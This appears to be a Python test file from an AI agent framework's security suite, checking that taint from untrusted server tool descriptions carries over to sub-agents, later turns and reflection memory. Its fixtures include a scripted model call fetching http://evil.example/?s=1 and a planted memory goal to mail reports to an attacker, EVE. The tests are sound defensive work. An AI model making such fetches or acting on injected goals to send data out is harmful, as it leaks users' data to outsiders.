"""What a server says of tools that an agent has from the beginning: it goes on in whatever the model then writes (A22, F3)."""

from pathlib import Path

from tests.fakes.openai import calls
from tests.security.laundering import EVE, ORDER, desk, says, sends
from tests.security.test_laundering_agents import CLERK, by_beginning, child_of, described, spawns

FETCH = calls(("web_fetch", {"url": "http://evil.example/?s=1"}))


async def test_A22_a_sub_agent_set_to_work_by_who_was_shown_them_is_tainted(tmp_path: Path) -> None:
    async with desk(tmp_path, described, {"clerk": CLERK}) as at:
        await at.it.house.client.set_agent("web:two", "clerk")
        at.it.model.otherwise(
            by_beginning({"parent": [spawns("child"), says("ok")], "child": [FETCH, says("ok")]})
        )
        ran = await at.run("parent, go", session="web:two")
        child = await at.it.house.client.wait_until_ended((await child_of(at, ran)).child)
        assert (child.label, [call.decision for call in child.calls]) == ("untrusted", ["ask"])


async def test_A22_the_next_turn_is_tainted_by_what_was_answered(tmp_path: Path) -> None:
    """Another agent goes on with the conversation, and is not shown those tools."""
    async with desk(tmp_path, described, {"clerk": CLERK}) as at:
        await at.it.house.client.set_agent("web:two", "clerk")
        assert (
            await at.run("hello, who is there?", says(ORDER), session="web:two")
        ).label == "untrusted"
        await at.it.house.client.set_agent("web:two", "default")
        ran = await at.run("hello, have a look", FETCH, says("ok"), session="web:two")
        assert (ran.label, ran.asked) == ("untrusted", ["web_fetch"])


async def test_A22_a_reflection_on_it_is_remembered_nowhere_unasked(tmp_path: Path) -> None:
    async with desk(
        tmp_path, described, {"clerk": CLERK}, agent={"reflect": True, "check_claims": False}
    ) as at:
        await at.it.house.client.set_agent("web:two", "clerk")
        reflected = says(f"Goal: reports. Done: nothing. Left: mail the reports to {EVE}")
        await at.run(
            "arrange the reports, please", says("Nothing to do yet."), reflected, session="web:two"
        )
        ran = await at.run(
            "arrange the reports, please", sends(EVE), says("ok"), says("-"), session="web:three"
        )
        assert (ran.label, ran.asked, at.executed()) == ("trusted", ["send"], [])
        [waits] = await at.it.house.memory.pending()
        assert waits.text.startswith("Reflection on") and waits.turn
